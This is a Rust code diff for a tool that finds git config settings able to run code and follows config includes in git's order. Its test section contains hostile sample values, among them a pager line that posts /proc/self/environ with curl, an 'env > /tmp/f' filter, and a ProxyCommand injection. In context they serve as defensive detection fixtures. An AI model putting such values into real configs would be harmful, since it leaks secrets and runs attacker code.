@@ -285,6 +285,11 @@ impl Pins {
         Some(text)
     }
 
+    /// Whether `path` (canonicalised) is pinned already.
+    fn has(&self, path: &Path) -> bool {
+        std::fs::canonicalize(path).is_ok_and(|c| self.0.iter().any(|q| Path::new(&q.path) == c))
+    }
+
     fn add(&mut self, role: &str, path: &Path, detail: Option<String>) -> bool {
         if self.0.len() >= MAX_FILES * 4 {
             return false;
@@ -362,55 +367,6 @@ const GIT_CODE_KEYS: &[&str] = &[
     "ssh.variant",
 ];
 
-/// Parses git config text into `(section[.subsection].key, value)` pairs (lower-case section and
-/// key; enough to find the settings above, not a full parser: continuation lines are ignored).
-fn git_config_pairs(text: &str) -> Vec<(String, String, String)> {
-    let mut out = Vec::new();
-    let mut section = String::new();
-    let mut sub = String::new();
-    // git skips a UTF-8 byte order mark at the start of a config file: so must we, or the first
-    // section's header is lost and its code-running keys go unflagged on the card.
-    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
-    for raw in text.lines() {
-        let mut line = raw.trim();
-        if line.starts_with('[') {
-            let end = line.find(']').unwrap_or(line.len());
-            let head = line.get(1..end).unwrap_or("").trim();
-            line = line.get(end + 1..).unwrap_or("").trim();
-            match head.split_once(|c: char| c.is_whitespace()) {
-                Some((s, rest)) => {
-                    section = s.to_ascii_lowercase();
-                    sub = rest.trim().trim_matches('"').to_owned();
-                }
-                None => match head.split_once('.') {
-                    Some((s, rest)) => {
-                        section = s.to_ascii_lowercase();
-                        sub = rest.to_owned();
-                    }
-                    None => {
-                        section = head.to_ascii_lowercase();
-                        sub.clear();
-                    }
-                },
-            }
-        }
-        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
-            continue;
-        }
-        let (k, v) = match line.split_once('=') {
-            Some((k, v)) => (k.trim(), v.trim()),
-            None => (line, "true"),
-        };
-        let v = v.trim_matches('"').to_owned();
-        out.push((
-            section.clone(),
-            sub.clone(),
-            format!("{}={v}", k.to_ascii_lowercase()),
-        ));
-    }
-    out
-}
-
 fn git_key_runs_code(section: &str, sub: &str, key: &str, value: &str) -> bool {
     if section == "alias" {
         return value.starts_with('!');
@@ -426,40 +382,95 @@ fn git_key_runs_code(section: &str, sub: &str, key: &str, value: &str) -> bool {
     })
 }
 
+/// What one git config file says that matters here: the code-running settings (for the card),
+/// and, in file order, the files it includes and the hooks paths it sets.
 struct GitConfig {
     detail: Option<String>,
-    includes: Vec<PathBuf>,
-    hooks_path: Option<String>,
+    /// `(include path, None)` or `(None, hooks path)` items, in file order.
+    items: Vec<GitItem>,
 }
 
+enum GitItem {
+    Include(PathBuf),
+    HooksPath(String),
+}
+
+/// Parses a config file with git's own syntax ([`crate::gitconfig`]: continuations, quotes,
+/// escapes, comments, both header forms) and keeps what the card shows and what is followed.
 fn parse_git_config(text: &str, path: &Path, home: Option<&Path>) -> GitConfig {
     let mut shown = Vec::new();
-    let mut includes = Vec::new();
-    let mut hooks_path = None;
+    let mut items = Vec::new();
     let base = path.parent().unwrap_or(Path::new("/"));
-    for (section, sub, kv) in git_config_pairs(text) {
-        let (key, value) = kv.split_once('=').unwrap_or((&kv, ""));
-        if !git_key_runs_code(&section, &sub, key, value) {
+    let parsed = crate::gitconfig::parse(text.as_bytes());
+    for e in &parsed.entries {
+        let sub = e.sub.as_deref().unwrap_or("");
+        let value = e.value.as_deref().unwrap_or("");
+        if !git_key_runs_code(&e.section, sub, &e.key, value) {
             continue;
         }
-        let name = if sub.is_empty() {
-            format!("{section}.{key}")
+        // Quoted when it holds what would blur the list (`;`, a newline, spaces at an end).
+        let v = if value.contains([';', '\n', '\r', '\t']) || value.trim() != value {
+            format!("{value:?}")
         } else {
-            format!("{section}.{sub}.{key}")
+            value.to_owned()
         };
-        shown.push(format!("{name}={value}"));
-        if key == "path" && (section == "include" || section == "includeif") {
-            includes.push(expand(value, base, home));
+        shown.push(format!("{}={v}", e.name()));
+        if let Some(v) = &e.value {
+            if e.key == "path" && (e.section == "include" || e.section == "includeif") {
+                items.push(GitItem::Include(expand(v, base, home)));
+            }
+            if e.section == "core" && e.sub.is_none() && e.key == "hookspath" {
+                items.push(GitItem::HooksPath(v.clone()));
+            }
         }
-        if section == "core" && key == "hookspath" {
-            hooks_path = Some(value.to_owned());
-        }
+    }
+    if let Some(n) = parsed.bad_line {
+        shown.push(format!("bad config line {n} (git refuses this file)"));
     }
     GitConfig {
         detail: (!shown.is_empty()).then(|| format!("runs or redirects: {}", shown.join("; "))),
-        includes,
-        hooks_path,
+        items,
     }
+}
+
+/// git's include depth limit (`MAX_INCLUDE_DEPTH` in config.c).
+const GIT_MAX_INCLUDE_DEPTH: usize = 10;
+
+/// Pins a git config file and, depth first in git's order, every file it includes (`include.path`
+/// and `includeIf.*.path`, whatever the condition); returns the last `core.hooksPath` set, as git
+/// would see it after this file (`hooks` is the value before it).
+fn git_config_file(
+    cx: &Ctx<'_>,
+    out: &mut Pins,
+    path: &Path,
+    depth: usize,
+    budget: &mut usize,
+    hooks: Option<String>,
+) -> Option<String> {
+    if depth > GIT_MAX_INCLUDE_DEPTH || *budget == 0 {
+        return hooks;
+    }
+    *budget -= 1;
+    let home = cx.home;
+    let text = match out.add_text("git-config", path, |t| {
+        parse_git_config(t, path, home).detail
+    }) {
+        Some(t) => t,
+        // Already pinned (included twice): read again for its order-dependent settings.
+        None if out.has(path) => match read_for_requester(path) {
+            Some(t) => t,
+            None => return hooks,
+        },
+        None => return hooks,
+    };
+    let mut hooks = hooks;
+    for item in parse_git_config(&text, path, home).items {
+        match item {
+            GitItem::Include(p) => hooks = git_config_file(cx, out, &p, depth + 1, budget, hooks),
+            GitItem::HooksPath(h) => hooks = Some(h),
+        }
+    }
+    hooks
 }
 
 /// A path from a config file: `~/` is the child's HOME, relative paths are relative to `base`.
@@ -520,9 +531,11 @@ fn git_dirs(start: &Path) -> Option<(PathBuf, PathBuf, PathBuf)> {
 fn git(cx: &Ctx<'_>, _: &str, out: &mut Pins) {
     let (start, git_dir) = git_start(cx);
     // Global config: ~/.gitconfig and ~/.config/git/config (XDG_CONFIG_HOME never passes).
-    let mut configs: Vec<PathBuf> = ["/.gitconfig", "/.config/git/config"]
+    // Global config in git's order: $XDG_CONFIG_HOME/git/config (XDG_CONFIG_HOME never passes),
+    // then ~/.gitconfig; then the repository's config and config.worktree.
+    let mut configs: Vec<PathBuf> = [".config/git/config", ".gitconfig"]
         .iter()
-        .filter_map(|r| home_file(cx, r.trim_start_matches('/')))
+        .filter_map(|r| home_file(cx, r))
         .collect();
     let dirs = match git_dir {
         Some(g) => {
@@ -537,24 +550,10 @@ fn git(cx: &Ctx<'_>, _: &str, out: &mut Pins) {
         configs.push(common.join("config"));
         configs.push(gitdir.join("config.worktree"));
     }
+    let mut budget = MAX_FILES;
     let mut hooks_path = None;
-    let mut seen = 0;
-    while let Some(c) = configs.first().cloned() {
-        configs.remove(0);
-        seen += 1;
-        if seen > MAX_FILES {
-            break;
-        }
-        let home = cx.home;
-        let Some(text) = out.add_text("git-config", &c, |t| parse_git_config(t, &c, home).detail)
-        else {
-            continue;
-        };
-        let parsed = parse_git_config(&text, &c, home);
-        configs.extend(parsed.includes);
-        if parsed.hooks_path.is_some() {
-            hooks_path = parsed.hooks_path;
-        }
+    for c in configs {
+        hooks_path = git_config_file(cx, out, &c, 0, &mut budget, hooks_path);
     }
     let hooks_dir = match (&hooks_path, &dirs) {
         (Some(h), Some((_, _, work))) => Some(expand(h, work, cx.home)),
@@ -590,11 +589,8 @@ fn git_submodules(cx: &Ctx<'_>, modules: &Path, out: &mut Pins) {
             let config = d.join("config");
             if config.is_file() {
                 let home = cx.home;
-                let hooks = out
-                    .add_text("git-config", &config, |t| {
-                        parse_git_config(t, &config, home).detail
-                    })
-                    .and_then(|t| parse_git_config(&t, &config, home).hooks_path)
+                let mut budget = MAX_FILES;
+                let hooks = git_config_file(cx, out, &config, 0, &mut budget, None)
                     .map_or_else(|| d.join("hooks"), |h| expand(&h, &d, home));
                 pin_dir(out, "git-hook", &hooks, |n| !n.ends_with(".sample"));
                 stack.push(d.join("modules"));
@@ -1016,7 +1012,15 @@ mod tests {
         assert!(detail.contains("alias.p=!sh evil"), "{detail}");
         assert!(!detail.contains("alias.st"), "{detail}");
         assert!(detail.contains("remote.origin.uploadpack=./u"), "{detail}");
-        assert_eq!(c.includes, vec![PathBuf::from("/h/more.inc")]);
+        let inc: Vec<PathBuf> = c
+            .items
+            .iter()
+            .filter_map(|i| match i {
+                GitItem::Include(p) => Some(p.clone()),
+                GitItem::HooksPath(_) => None,
+            })
+            .collect();
+        assert_eq!(inc, vec![PathBuf::from("/h/more.inc")]);
         // A byte order mark (which git skips) does not hide the first section's keys.
         let bom = "\u{feff}[filter \"y\"]\n\tclean = sh -c 'env > /tmp/f; cat'\n[core]\n\thooksPath = /tmp/h\n";
         let c = parse_git_config(bom, &p, Some(Path::new("/h")));
@@ -1026,6 +1030,64 @@ mod tests {
             detail.contains("core.hookspath=/tmp/h") || detail.contains("core.hooksPath=/tmp/h"),
             "{detail}"
         );
+    }
+
+    #[test]
+    fn git_config_values_are_shown_whole_as_git_reads_them() {
+        let p = Path::new("/r/.git/config");
+        // A continuation inside quotes: the card must not stop at the first line.
+        let t = "[core]\n\tpager = \"less \\\n; curl -d @/proc/self/environ x\"\n\tsshCommand = ssh\\\n -oProxyCommand=evil # c\n";
+        let d = parse_git_config(t, p, None).detail.unwrap();
+        assert!(
+            d.contains("core.pager=\"less ; curl -d @/proc/self/environ x\""),
+            "{d}"
+        );
+        assert!(d.contains("core.sshcommand=ssh -oProxyCommand=evil"), "{d}");
+        // The deprecated header form, a key on the header's line, and a subsection whose case
+        // git keeps.
+        let t = "[Filter.LFS]Clean = x\n[diff \"Pdf\"] textconv = \"y\\tz\"\n";
+        let d = parse_git_config(t, p, None).detail.unwrap();
+        assert!(d.contains("filter.lfs.clean=x"), "{d}");
+        assert!(d.contains("diff.Pdf.textconv=\"y\\tz\""), "{d}");
+        // git refuses a file with a bad line: said so.
+        let d = parse_git_config("[core]\n\tpager = \\q\n", p, None)
+            .detail
+            .unwrap();
+        assert!(d.contains("bad config line 2"), "{d}");
+    }
+
+    #[test]
+    fn git_includes_are_followed_in_order_and_the_last_hooks_path_wins() {
+        let d = tempfile::tempdir().unwrap();
+        let repo = d.path().join("repo");
+        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+        std::fs::create_dir_all(repo.join("late")).unwrap();
+        std::fs::create_dir_all(repo.join("early")).unwrap();
+        std::fs::write(repo.join("late/h1"), "#!/bin/sh\n").unwrap();
+        std::fs::write(repo.join("early/h0"), "#!/bin/sh\n").unwrap();
+        // The include comes after hooksPath in the file, so the included value wins (git reads
+        // includes where they stand); `includeIf` is followed whatever its condition.
+        std::fs::write(
+            repo.join(".git/config"),
+            "[core]\n\thooksPath = early\n[include]\n\tpath = \"inc\\\n.cfg\"\n[includeIf \"onbranch:x\"]\n\tpath = cond.cfg\n",
+        )
+        .unwrap();
+        std::fs::write(repo.join(".git/inc.cfg"), "[core]\n\thooksPath = late\n").unwrap();
+        std::fs::write(repo.join(".git/cond.cfg"), "[alias]\n\tx = !evil\n").unwrap();
+        let argv = sv(&["git", "status"]);
+        let pins = inputs(
+            "git",
+            "git",
+            &ctx(&argv, &repo, Path::new("/usr/bin/git"), d.path()),
+        );
+        let names: Vec<&str> = pins
+            .iter()
+            .map(|p| p.path.rsplit('/').next().unwrap())
+            .collect();
+        assert!(names.contains(&"inc.cfg"), "{names:?}");
+        assert!(names.contains(&"cond.cfg"), "{names:?}");
+        assert!(names.contains(&"h1"), "{names:?}");
+        assert!(!names.contains(&"h0"), "{names:?}");
     }
 
     #[test]
